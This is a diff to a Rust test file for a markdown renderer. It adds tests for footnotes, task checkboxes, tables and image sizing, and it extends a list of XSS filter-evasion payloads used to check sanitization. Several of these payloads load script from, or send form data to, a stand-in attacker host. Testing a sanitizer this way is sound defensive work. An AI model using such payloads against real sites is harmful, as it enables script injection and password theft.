@@ -1,4 +1,5 @@
 use super::*;
+use crate::store::PictureName;
 
 #[track_caller]
 fn html_of(markdown: &str) -> String {
@@ -36,9 +37,68 @@ fn headings_begin_at_the_second_level_and_have_ids_of_their_own() {
 }
 
 #[test]
-fn a_footnote_leads_to_its_place_in_the_post() {
-    let html = html_of("Teksts.[^1]\n\n[^1]: Piezīme.");
-    assert!(html.contains("href=\"#post-1\"") && html.contains("id=\"post-1\""), "{html}");
+fn footnotes_stand_at_the_end_in_the_order_of_their_calls_with_ways_there_and_back() {
+    let html = html_of(
+        "Viens[^b] un divi[^a], atkal[^b].\n\n[^a]: Otrā, kas sauc[^c].\n\n[^b]: Pirmā.\n\n\
+         [^c]: Trešā.\n\n[^d]: Nesaukta.\n\nBeigas.",
+    );
+    let (text, notes) = html.split_once("<ol class=\"footnotes\">").expect("a list");
+    assert!(text.contains("<p>Beigas.</p>") && !text.contains("Pirmā"), "{html}");
+    let order: Vec<_> = ["Pirmā.", "Otrā", "Trešā.", "Nesaukta."]
+        .map(|note| notes.find(note).expect("each note"))
+        .to_vec();
+    assert!(order.is_sorted(), "{notes}");
+    for (place, part) in [
+        (text, "id=\"post-fnref_1\"><a href=\"#post-fn_1\" rel=\"noopener\">1</a></sup>"),
+        (text, "id=\"post-fnref_1_2\"><a href=\"#post-fn_1\""),
+        (
+            notes,
+            "<li id=\"post-fn_1\">\n<p>Pirmā. <a href=\"#post-fnref_1\" rel=\"noopener\">↩</a></p>",
+        ),
+        (notes, "id=\"post-fnref_3\""),
+    ] {
+        assert!(place.contains(part), "{part}\n{html}");
+    }
+    assert!(!notes.contains("#post-fnref_4"), "what nothing calls has no way back: {notes}");
+}
+
+#[test]
+fn tasks_have_boxes_that_show_their_state_and_are_named_by_their_words() {
+    let open = "<label><input type=\"checkbox\" disabled=\"\"> ";
+    let html = html_of("- [x] **Viens** solis\n- [ ] Divi\n  - [ ] Apakšā\n- Trīs");
+    assert!(html.contains("checked=\"\"") && html.contains("<strong>Viens</strong> solis</label>"));
+    assert!(html.contains(&format!("<li>{open}Divi</label>")), "{html}");
+    assert!(html.contains(&format!("<li>{open}Apakšā</label></li>")), "{html}");
+    assert!(html.contains("<li>Trīs</li>") && html.matches("<input").count() == 3, "{html}");
+    let loose = html_of("- [ ] Viens\n\n- [ ] Divi");
+    assert!(loose.contains(&format!("<p>{open}Viens</label></p>")), "{loose}");
+    assert!(sections("- [x] Viens")[0].paragraphs == ["- Viens"], "no box in plain words");
+}
+
+#[test]
+fn code_can_be_scrolled_by_keys_and_columns_keep_their_sides() {
+    assert!(html_of("```\ngara rinda\n```").starts_with("<pre tabindex=\"0\"><code>"));
+    let table = html_of("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |");
+    for cell in
+        ["<th align=\"left\">a</th>", "<td align=\"center\">2</td>", "<td align=\"right\">3</td>"]
+    {
+        assert!(table.contains(cell), "{cell}\n{table}");
+    }
+}
+
+#[test]
+fn pictures_that_are_kept_here_get_their_sizes_and_others_none() {
+    let name: PictureName = "01938a4e-0000-7000-8000-000000000001.jpg".parse().expect("a name");
+    let url = name.url();
+    let html = html_of(&format!(
+        "![a > \"b\" <img src=]({url})\n\n<img src=\"{url}\" width=\"20\">\n\n\
+         ![c](https://images.example/c.png) `<img src=\"{url}\">`"
+    ));
+    assert_eq!(unmeasured_pictures(&html), [name].into());
+    let sized = with_sizes(&html, &[(name, (1600, 900))].into());
+    assert_eq!(sized.matches("<img width=\"1600\" height=\"900\" ").count(), 1, "{sized}");
+    assert_eq!(sized.replace(" width=\"1600\" height=\"900\"", ""), html, "nothing else");
+    assert!(unmeasured_pictures(&sized).is_empty());
 }
 
 #[test]
@@ -57,7 +117,7 @@ fn sections_are_the_words_of_a_post_under_their_headings() {
 }
 
 /// Inspired by the OWASP cheat sheet on filter evasion.
-const ATTACKS: [&str; 36] = [
+const ATTACKS: [&str; 38] = [
     "<script>alert(1)</script>",
     "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
     "<scr<script>ipt>alert(1)</scr</script>ipt>",
@@ -93,6 +153,8 @@ const ATTACKS: [&str; 36] = [
     "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
     "<base href=https://evil.example/>",
     "<form action=https://evil.example/><input name=password><button formaction=javascript:alert(1)>x",
+    "<input type=image src=x onerror=alert(1) formaction=//evil.example name=a value=b autofocus>",
+    "<label for=root onclick=alert(1)><input type=text placeholder=Parole></label>",
     "<body onload=alert(1)><details open ontoggle=alert(1)>x</details>",
 ];
 
